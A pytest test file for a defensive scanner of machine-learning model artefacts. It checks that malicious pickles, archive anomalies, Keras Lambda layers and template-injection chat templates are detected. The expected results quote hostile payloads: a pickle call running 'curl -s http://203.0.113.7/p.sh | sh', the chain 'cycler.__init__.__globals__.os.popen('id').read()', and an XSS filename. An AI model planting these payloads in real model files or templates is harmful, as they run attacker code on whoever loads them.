"""Artefact inventory over generated hostile fixtures, real files from format libraries, and the sample cases.

Every file is written into tmp_path and read back through the real sniffers, archive readers and parsers; the
expected kind, danger and import class per fixture are in ``hostile_fixtures.FILES``.
"""

from __future__ import annotations

import io
import struct
import zipfile
from collections import Counter
from pathlib import Path

import numpy as np
import pytest

from tests.model import hostile_fixtures as hf
from workbench.errors import EvidenceError
from workbench.model.embedded_code import auto_map_references, keras_lambda_layers, template_issues
from workbench.model.formats import parse_npy_header, sniff
from workbench.model.gguf_meta import GgufError, read_gguf_header
from workbench.model.inventory import take_inventory
from workbench.model.limits import ScanLimits
from workbench.model.pickles import worst_safety
from workbench.model.scan import scan_model

SAMPLES = Path(__file__).resolve().parents[2] / "evidence-samples"


@pytest.fixture(scope="module")
def hostile_dir(tmp_path_factory) -> Path:
    return hf.write_model_dir(tmp_path_factory.mktemp("hostile") / "model")


@pytest.fixture(scope="module")
def inventory(hostile_dir):
    return take_inventory(hostile_dir)


def test_every_fixture_is_classified_as_expected(inventory):
    worst: dict[str, str] = {}
    for path, report in inventory.pickles:
        if report.is_pickle:
            worst[path] = worst_safety([worst.get(path, "safe"), *(i.safety for i in report.imports)])
    got = {a.path: (a.kind, a.dangerous, worst.get(a.path)) for a in inventory.artefacts if a.member is None}
    assert got == {name: tuple(spec[1:]) for name, spec in hf.FILES.items()}


def test_archive_anomalies(inventory):
    got = sorted((path, a.member, a.kind) for path, a in inventory.anomalies)
    encrypted = [("encrypted.pt", m, "encrypted") for m in ("archive/byteorder", "archive/data.pkl", "archive/data/0",
                                                              "archive/version")]  # fmt: skip
    assert got == sorted([
        ("bad_crc.pt", "archive/data.pkl", "bad_crc"),
        ("bomb.zip", "archive/data/0", "decompression_bomb"),
        *encrypted,
        ("lying.zip", "blob.bin", "decompression_bomb"),
        ("mismatch.pt", "archive/data.pkl", "name_mismatch"),
    ])  # fmt: skip
    details = {(p, a.kind): a.detail for p, a in inventory.anomalies}
    assert details[("lying.zip", "decompression_bomb")] == "inflates past its declared 16 bytes"
    assert details[("mismatch.pt", "name_mismatch")] == (
        "local header names it 'archive/xata.pkl'; tools disagree on which name is real"
    )
    assert (
        details[("bomb.zip", "decompression_bomb")] == "declares 4194304 bytes from 4080 compressed (ratio above 200)"
    )


def test_tampered_member_is_still_analysed(inventory):
    reports = {(p, r.member): r for p, r in inventory.pickles}
    assert [c.text for c in reports[("bad_crc.pt", "archive/data.pkl")].calls] == ["posix.system('echo pwnee')"]
    assert [c.text for c in reports[("encrypted.pt", "archive/data.pkl")].calls] == ["posix.system('echo pwned')"]
    hidden = reports[("hidden.pt", "archive/extra/payload")]
    assert [(i.qualified, i.offset, i.opcode) for i in hidden.imports] == [("os.system", 21, "INST")]


def test_pickles_in_disguise(inventory):
    disguised = sorted((a.path, a.member) for a in inventory.artefacts if a.details.get("disguised"))
    assert disguised == [("hidden.pt", "archive/extra/payload"), ("model.safetensors", None), ("tokenizer.model", None)]
    by_path = {(a.path, a.member): a for a in inventory.artefacts}
    assert by_path[("model.safetensors", None)].why == (
        "pickle in disguise (named 'model.safetensors'): loading it runs the pickle"
    )
    assert by_path[("picture.pt", None)].why == "content is image, the name suggests pytorch"
    assert by_path[("model.keras", None)].why == (
        "archive holds dangerous members (config.json: Keras Lambda layer: marshalled Python code runs on load)"
    )


def test_code_references(inventory):
    refs = sorted((c.path, c.member, c.ref.kind, c.ref.severity, c.ref.summary, c.ref.line) for c in inventory.code)
    gguf = ("model.gguf", None, "chat_template")
    template = "GGUF tokenizer.chat_template: "
    assert refs == sorted([
        ("config.json", None, "auto_map", "high", "auto_map: AutoModel -> modeling_evil.EvilModel", None),
        (*gguf, "high", template + "call of 'read' outside the formatting allowlist; call of 'popen' outside the "
         "formatting allowlist; attribute access to 'popen'; attribute access to 'os'; attribute access to "
         "'__globals__' (template-injection gadget); attribute access to '__init__' (template-injection gadget); "
         "global 'cycler' used as an object (the base of template-injection chains) in "
         "`cycler.__init__.__globals__.os.popen('id').read()`", 2),
        ("model.keras", "config.json", "keras_lambda", "high", "Lambda layer 'exfil' carries Python code run on load "
         "(9 bytes of marshalled bytecode, never loaded)", None),
    ])  # fmt: skip


#: the fixture's model.weights.h5 is an HDF5 signature and zeros: the h5py child cannot open it (not analysed)
H5_UNREADABLE = ("Keras config not examined: h5py could not read it (OSError: Unable to synchronously open file (bad "
                 "byte number in an address))")  # fmt: skip


def test_warnings_name_the_file(inventory):
    flag = "encryption flag set: bytes read as they are, as PyTorch reads them"
    assert sorted(str(w) for w in inventory.warnings) == [
        "cut.gguf: GGUF header: at offset 69: header truncated (needs 8 more bytes)",
        *(f"encrypted.pt: member archive/{m}: {flag}" for m in ("byteorder", "data.pkl", "version")),
        f"model.keras: member model.weights.h5: {H5_UNREADABLE}",
        "truncated.pkl: pickle stream 0 not followed to its STOP (at offset 16: BINUNICODE: not enough data in stream "
        "to read uint4): what follows is not analysed",
    ]


def test_scan_findings_by_category(hostile_dir):
    scan = scan_model(hostile_dir)
    counts = Counter((f.category, f.severity.value) for f in scan.findings)
    assert counts == Counter({
        ("dangerous_file_type", "high"): 3, ("dangerous_file_type", "low"): 20, ("dangerous_file_type", "critical"): 3,
        ("pickle_dangerous_import", "critical"): 15, ("pickle_suspicious_import", "high"): 2,
        ("archive_anomaly", "high"): 4, ("archive_anomaly", "medium"): 4, ("custom_code_reference", "high"): 3,
        ("file_type_mismatch", "medium"): 2, ("scanner_disagreement", "low"): 4,
    })  # fmt: skip
    assert all(f.atlas and set(f.atlas) <= {"AML.T0011.000", "AML.T0018.002", "AML.T0010.003"} for f in scan.findings)
    joblib = next(
        f for f in scan.findings if f.category == "scanner_disagreement" and f.evidence["path"] == "model.joblib"
    )
    assert joblib.detail == (
        "posix.system: only the genops analysis sees this import (later stream, memo indirection or unusual member)."
    )
    frame = scan.imports_frame()
    assert list(frame.columns) == ["path", "member", "stream", "offset", "opcode", "import", "safety", "rule", "note"]
    assert len(frame) == sum(len(r.imports) for _, r in scan.inventory.pickles) == 29


def test_inflation_cap_stops_reading(tmp_path):
    (tmp_path / "bomb.zip").write_bytes(hf.zip_bomb())
    inv = take_inventory(tmp_path, limits=ScanLimits(max_inflated_bytes=1024 * 1024))
    assert [(a.member, a.kind) for _, a in inv.anomalies] == [
        ("archive/data/0", "decompression_bomb"),
        (None, "decompression_bomb"),
    ]
    assert [a.member for a in inv.artefacts] == [None] and inv.pickles == []


def test_member_count_cap(tmp_path):
    (tmp_path / "w.pt").write_bytes(hf.torch_zip(hf.torch_state_dict_pickle()))
    inv = take_inventory(tmp_path, limits=ScanLimits(max_members=2))
    assert [(a.member, a.kind, a.detail) for _, a in inv.anomalies] == [
        (None, "too_many_members", "4 members; only the first 2 are examined")
    ]


def _stored_zip(name: str, data: bytes) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr(name, data)
    return buf.getvalue()


def test_nesting_depth(tmp_path):
    nested = _stored_zip("outer/inner.zip", _stored_zip("inner/deep.zip", _stored_zip("p.pkl", hf.global_reduce())))
    (tmp_path / "nest.zip").write_bytes(nested)
    shallow = take_inventory(tmp_path, limits=ScanLimits(max_depth=2))
    assert [(a.member, a.kind) for _, a in shallow.anomalies] == [("outer/inner.zip!inner/deep.zip", "too_deep")]
    assert shallow.pickles == []
    deep = take_inventory(tmp_path, limits=ScanLimits(max_depth=3))
    assert [(r.member, [i.qualified for i in r.imports]) for _, r in deep.pickles] == [
        ("outer/inner.zip!inner/deep.zip!p.pkl", ["posix.system"])
    ]


def test_seven_zip_members(tmp_path):
    py7zr = pytest.importorskip("py7zr")
    buf = io.BytesIO()
    with py7zr.SevenZipFile(buf, "w") as archive:
        archive.writestr(hf.global_reduce(), "weights/optim.pkl")
    (tmp_path / "model.7z").write_bytes(buf.getvalue())
    inv = take_inventory(tmp_path)
    assert [(a.member, a.kind, a.dangerous) for a in inv.artefacts] == [
        ("weights/optim.pkl", "pickle", True),
        (None, "7z", True),
    ]
    assert [(r.member, [c.text for c in r.calls]) for _, r in inv.pickles] == [
        ("weights/optim.pkl", ["posix.system('echo pwned')"])
    ]


def test_symlinks_are_not_followed(tmp_path):
    outside = tmp_path / "outside.pkl"
    outside.write_bytes(hf.global_reduce())
    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_text("{}")
    (model / "optimizer.pkl").symlink_to(outside)
    inv = take_inventory(model)
    assert [a.path for a in inv.artefacts] == ["config.json"] and inv.pickles == []
    assert [str(w) for w in inv.warnings] == [
        f"optimizer.pkl: symlink to {str(outside)!r} leaves the evidence tree, not followed"
    ]
    with pytest.raises(EvidenceError, match="model path is a symlink"):
        take_inventory(model / "optimizer.pkl")
    with pytest.raises(EvidenceError, match="does not exist"):
        take_inventory(tmp_path / "nope")


ONNX = b"\x08\x08\x12\x07pytorch\x1a\x032.1\x3a\x02\x0a\x00\x42\x02\x10\x11"
SPM = b"\x0a\x07\x0a\x03<s>\x15\x00\x12\x02\x08\x01"


@pytest.mark.parametrize(
    ("head", "name", "kind", "details"),
    [
        (b"\x7fELF\x02\x01\x01" + bytes(57), "x.so", "shared_library", {}),
        (b"\xcf\xfa\xed\xfe" + bytes(60), "libx.dylib", "shared_library", {}),
        (b"MZ" + bytes(126), "x.dll", "shared_library", {"format": "PE"}),
        (struct.pack("<H", 3495) + b"\r\n" + bytes(12), "x.pyc", "python_bytecode", {}),
        (ONNX, "model.onnx", "onnx", {}),
        (SPM, "tokenizer.model", "tokenizer", {"format": "sentencepiece"}),
        (b"GGUF\x03\x00\x00\x00", "m.gguf", "gguf", {}),
        (b"\x1f\x8b\x08\x00", "m.joblib", "compressed", {"compression": "gzip"}),
        (b"#!/usr/bin/env python3\nprint(1)\n", "run", "python", {}),
        (b'{"model": {"type": "BPE"}}', "tokenizer.json", "tokenizer", {"format": "json"}),
        (b'{"hidden_size": 8}', "config.json", "config", {}),
        (b'{"a": [1, 2', "x.json", "text", {}),
        (b"hello world\n", "notes.txt", "text", {}),
        (b"", "empty.bin", "empty", {}),
        (bytes(range(256)) * 4, "blob.bin", "unknown", {}),
    ],
)
def test_sniff(head, name, kind, details):
    got = sniff(head, name, len(head))
    assert (got.kind, got.details) == (kind, details)


def test_sniff_real_safetensors(tmp_path):
    from safetensors.numpy import save_file

    save_file({"w": np.arange(6, dtype=np.float32).reshape(2, 3)}, tmp_path / "m.safetensors")
    data = (tmp_path / "m.safetensors").read_bytes()
    got = sniff(data, "m.safetensors", len(data))
    assert got.kind == "safetensors" and got.details["leading_whitespace"] == 0
    spaced = struct.pack("<Q", 10) + b"   {}      " + bytes(4)
    assert sniff(spaced, "x.safetensors", len(spaced)).details == {"header_bytes": 10, "leading_whitespace": 3}


def test_npy_headers():
    assert parse_npy_header(hf.npy_float32()) == (
        {"descr": "<f4", "fortran_order": False, "shape": (2,), "has_object": False},
        128,
    )
    structured = np.zeros(1, dtype=[("a", "<f4"), ("b", "O")])
    buf = io.BytesIO()
    np.lib.format.write_array_header_1_0(buf, np.lib.format.header_data_from_array_1_0(structured))
    assert parse_npy_header(buf.getvalue())[0]["has_object"] is True
    with pytest.raises(ValueError, match="not a Python literal"):
        parse_npy_header(b"\x93NUMPY\x01\x00" + struct.pack("<H", 10) + b"__import__")
    with pytest.raises(ValueError, match="larger than the 16-byte cap"):
        parse_npy_header(hf.npy_float32(), max_header=16)


def test_gguf_header():
    data = hf.gguf()
    header = read_gguf_header(io.BytesIO(data), len(data))
    assert (header.version, header.tensor_count, header.kv_count, header.header_bytes) == (3, 0, 3, len(data))
    assert header.metadata == {
        "general.architecture": "llama",
        "tokenizer.ggml.tokens": "<array of 3 string>",
        "tokenizer.chat_template": hf.EVIL_TEMPLATE,
    }
    assert header.chat_templates == {"tokenizer.chat_template": hf.EVIL_TEMPLATE}
    capped = read_gguf_header(io.BytesIO(data), len(data), ScanLimits(gguf_max_string=64))
    assert capped.chat_templates == {} and capped.problems == (
        f"at offset 178: string of {len(hf.EVIL_TEMPLATE)} bytes exceeds the 64-byte cap, skipped",
    )
    assert capped.metadata["tokenizer.chat_template"] == "<string over the cap>"
    # the template left unanalysed by the cap is recorded as unexamined, not only as a problem
    assert capped.capped == ("at offset 143: chat template 'tokenizer.chat_template' over the 64-byte string cap, "
                             "not analysed",)  # fmt: skip
    assert header.capped == ()
    huge_array = b"GGUF" + struct.pack("<IQQ", 3, 0, 1) + hf._gguf_str("k") + struct.pack("<IIQ", 9, 8, 1 << 40)
    huge = read_gguf_header(io.BytesIO(huge_array), len(huge_array))
    assert huge.problems == () and huge.capped == (
        "at offset 37: array of 1099511627776 items exceeds the 10000000-item cap; the rest of the metadata is not "
        "read",
    )
    with pytest.raises(GgufError, match="no GGUF magic"):
        read_gguf_header(io.BytesIO(b"GGML" + bytes(20)), 24)


def test_templates_and_configs():
    assert template_issues(hf.PLAIN_TEMPLATE) == []
    assert [(r.severity, r.summary) for r in template_issues("{% include 'x.j2' %}{{ x|attr('__class__') }}")] == [
        ("high", "include loads another template"),
        ("high", "filter 'attr' outside the formatting allowlist; string '__class__' names a dunder attribute in "
         "`x|attr('__class__')`"),
    ]  # fmt: skip
    assert next(r.summary for r in template_issues("{% for %}")).startswith("template does not parse")
    refs = auto_map_references({"auto_map": {"AutoTokenizer": ["org/repo--tok.Tok", None]}})
    assert [r.summary for r in refs] == [
        "auto_map: AutoTokenizer -> org/repo--tok.Tok (code from repository 'org/repo')"
    ]
    assert auto_map_references({"model_type": "bert"}) == [] and keras_lambda_layers([{"class_name": "Dense"}]) == []


def test_real_minilm_model_is_clean(minilm_dir):
    scan = scan_model(minilm_dir)
    kinds = {a.path: a.kind for a in scan.inventory.artefacts}
    assert kinds["model.safetensors"] == "safetensors" and kinds["tokenizer.json"] == "tokenizer"
    assert kinds["config.json"] == "config" and kinds["vocab.txt"] == "tokenizer"
    assert not any(a.dangerous for a in scan.inventory.artefacts)
    assert [f for f in scan.findings if f.severity.rank > 1] == []


def test_sample_cases():
    tampered = scan_model(SAMPLES / "tampered-weights/models/suspect/sentiment-model-v2.1", display_prefix="suspect")
    assert [(f.severity.value, f.category, f.title) for f in tampered.findings] == [
        ("low", "dangerous_file_type", "suspect/optimizer.pkl: pickle-based: loading it runs the pickle"),
        ("critical", "pickle_dangerous_import",
         "suspect/optimizer.pkl: pickle imports posix.system: posix.system('curl -s http://203.0.113.7/p.sh | sh')"),
    ]  # fmt: skip
    assert tampered.findings[1].evidence == {
        "path": "suspect/optimizer.pkl", "import": "posix.system", "offset": 67, "stream": 0, "opcode": "GLOBAL",
        "call": "posix.system('curl -s http://203.0.113.7/p.sh | sh')",
    }  # fmt: skip
    for case in ("false-alarm", "poisoned-dependency"):
        clean = scan_model(SAMPLES / case / "models" / "suspect")
        assert [f for f in clean.findings if f.severity.rank > 1] == [], case


def test_more_formats(tmp_path):
    lambda_cfg = b'{"class_name": "Sequential", "config": {"layers": [{"class_name": "Lambda", "config": {}}]}}'
    (tmp_path / "model.h5").write_bytes(b"\x89HDF\r\n\x1a\n" + bytes(100) + lambda_cfg)
    (tmp_path / "chat_template.jinja").write_text("{{ messages[0].__class__ }}")
    joblib_raw = hf.PROTO(2) + hf.glob("joblib.numpy_pickle", "NumpyArrayWrapper") + hf.EMPTY_TUPLE + b"\x81" + hf.STOP
    (tmp_path / "model.joblib").write_bytes(joblib_raw)
    (tmp_path / "cut.pt").write_bytes(hf.torch_zip(hf.global_reduce())[:100])
    inv = take_inventory(tmp_path)
    got = {a.path: (a.kind, a.dangerous, a.why) for a in inv.artefacts}
    assert got == {
        "chat_template.jinja": ("text", False, ""),
        "cut.pt": ("zip", False, ""),
        "model.h5": ("hdf5", True, "Keras Lambda layer: marshalled Python code runs on load"),
        "model.joblib": ("joblib", True, "pickle-based: loading it runs the pickle"),
    }
    assert sorted((c.path, c.ref.kind, c.ref.summary, c.ref.offset) for c in inv.code) == [
        ("chat_template.jinja", "chat_template", "chat template file: attribute access to '__class__' "
         "(template-injection gadget) in `messages[0].__class__`", None),
        ("model.h5", "keras_lambda", "HDF5 model config names a Lambda layer", 8 + 100 + 52),
    ]  # fmt: skip
    assert [(p, a.kind) for p, a in inv.anomalies] == [("cut.pt", "unreadable")]
    assert [(i.qualified, i.safety) for _, r in inv.pickles for i in r.imports] == [
        ("joblib.numpy_pickle.NumpyArrayWrapper", "safe")
    ]


def test_analysis_contract_and_rendering(tmp_path):
    from workbench.analysis import AnalysisContext
    from workbench.case import Case
    from workbench.collect import EvidenceSet
    from workbench.model.scan import analyse
    from workbench.model.scan_render import render_scan

    model = tmp_path / "case" / "models" / "suspect" / "m"
    model.mkdir(parents=True)
    (model / "<img src=x onerror=alert(1)>.pkl").write_bytes(hf.global_reduce())
    result = analyse(AnalysisContext(case=Case.open(tmp_path / "case"), evidence=EvidenceSet()))
    assert result.section == "model"
    assert [f.category for f in result.findings] == ["dangerous_file_type", "pickle_dangerous_import"]
    assert result.findings[1].evidence["path"] == "models/suspect/m/<img src=x onerror=alert(1)>.pkl"
    assert list(result.data) == ["scan", "model_files", "pickle_imports", "pickle_calls", "scans"]
    assert list(result.data["scans"]) == ["models/suspect/m"] and result.not_applicable is None
    assert result.inputs == ["models/suspect/m/<img src=x onerror=alert(1)>.pkl"]
    html = "".join(render_scan(result)).replace("<wbr>", "")  # path cells carry break points
    assert "<img" not in html and "&lt;img src=x onerror=alert(1)&gt;.pkl" in html
    assert "posix.system(&#x27;echo pwned&#x27;)" in html
    empty = analyse(AnalysisContext(case=Case.open(SAMPLES / "false-alarm" / "logs"), evidence=EvidenceSet()))
    assert render_scan(empty) == ['<p class="wb-note">No model folder in the case; no artefact scan.</p>']
    assert empty.not_applicable == "no model folder in the case" and empty.inputs == []


def test_mutated_fixtures_never_crash(tmp_path):
    """Seeded byte mutations of every fixture: the scan records problems, it never raises."""
    import random

    rng = random.Random(20261126)  # noqa: S311 - deterministic fuzzing, not cryptography
    for i in range(150):
        name, (content, *_rest) = rng.choice(sorted(hf.FILES.items()))
        data = bytearray(content)
        for _ in range(rng.randint(1, 6)):
            if rng.random() < 0.6 and data:
                data[rng.randrange(len(data))] = rng.randrange(256)
            else:
                data = data[: rng.randrange(len(data) + 1)]
        folder = tmp_path / str(i)
        folder.mkdir()
        (folder / name).write_bytes(bytes(data))
        scan = scan_model(folder, use_picklescan=False)
        assert len([a for a in scan.inventory.artefacts if a.member is None]) + len(scan.warnings) >= 1
